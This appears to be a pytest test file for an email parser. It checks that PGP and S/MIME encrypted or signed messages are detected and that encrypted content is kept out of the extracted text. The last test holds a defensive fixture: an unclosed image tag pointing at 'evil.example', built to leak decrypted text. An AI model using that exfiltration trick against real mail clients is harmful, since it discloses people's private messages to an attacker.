"""What is encrypted or signed is named, and never opened into the text (intake 57)."""

import pytest

from parsing.reading import read

ARMOR = b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0xvcmVtAQf+\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n"
CLEARSIGNED = (
    b"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhello\r\n"
    b"-----BEGIN PGP SIGNATURE-----\r\n\r\nx\r\n-----END PGP SIGNATURE-----\r\n"
)


def multipart(kind, *parts):
    head = b"From: a@x.example\r\nSubject: s\r\nContent-Type: " + kind + b"; boundary=b\r\n\r\n"
    return head + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"


@pytest.mark.parametrize(
    ("raw", "encrypted", "signed"),
    [
        (
            multipart(
                b'multipart/encrypted; protocol="application/pgp-encrypted"',
                b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
                b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + ARMOR,
            ),
            "openpgp",
            "",
        ),
        (
            multipart(
                b'multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256',
                b"Content-Type: text/plain\r\n\r\nhello\r\n",
                b"Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n",
            ),
            "",
            "openpgp",
        ),
        (
            multipart(
                b'multipart/signed; protocol="application/x-pkcs7-signature"',
                b"\r\nhello",
                b"Content-Type: application/x-pkcs7-signature; name=smime.p7s\r\n\r\nx",
            ),
            "",
            "smime",
        ),
        (
            multipart(b"multipart/signed", b"\r\nhello", b"Content-Type: application/pkcs7-signature\r\n\r\nx"),
            "",
            "smime",
        ),
        # Exchange takes multipart/encrypted apart and leaves the parts.
        (
            multipart(
                b"multipart/mixed",
                b"\r\n",
                b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
                b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + ARMOR,
            ),
            "openpgp",
            "",
        ),
        (b"From: a@x.example\r\n\r\n" + ARMOR, "openpgp", ""),
        (b"From: a@x.example\r\n\r\nmy key did not fit your " + ARMOR.strip().split(b"\r\n")[0], "", ""),
        (b"From: a@x.example\r\n\r\n> -----BEGIN PGP MESSAGE-----\r\n", "", ""),
        (b"From: a@x.example\r\n\r\n" + CLEARSIGNED, "", "openpgp"),
        (
            b"From: a@x.example\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nnot DER",
            "smime",
            "",
        ),
        (b"From: a@x.example\r\n\r\nhello", "", ""),
    ],
)
def test_named(raw, encrypted, signed):
    found = read(raw)
    assert (found.encrypted, found.signed) == (encrypted, signed)


def test_nothing_of_an_encrypted_part_comes_into_the_text():
    found = read(
        multipart(
            b'multipart/encrypted; protocol="application/pgp-encrypted"',
            b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/?",
            b"Content-Type: text/plain\r\n\r\nsecret words",
        )
    )
    assert found.text == ""
    assert [file.content_type for file in found.attachments] == ["text/html", "text/plain"]
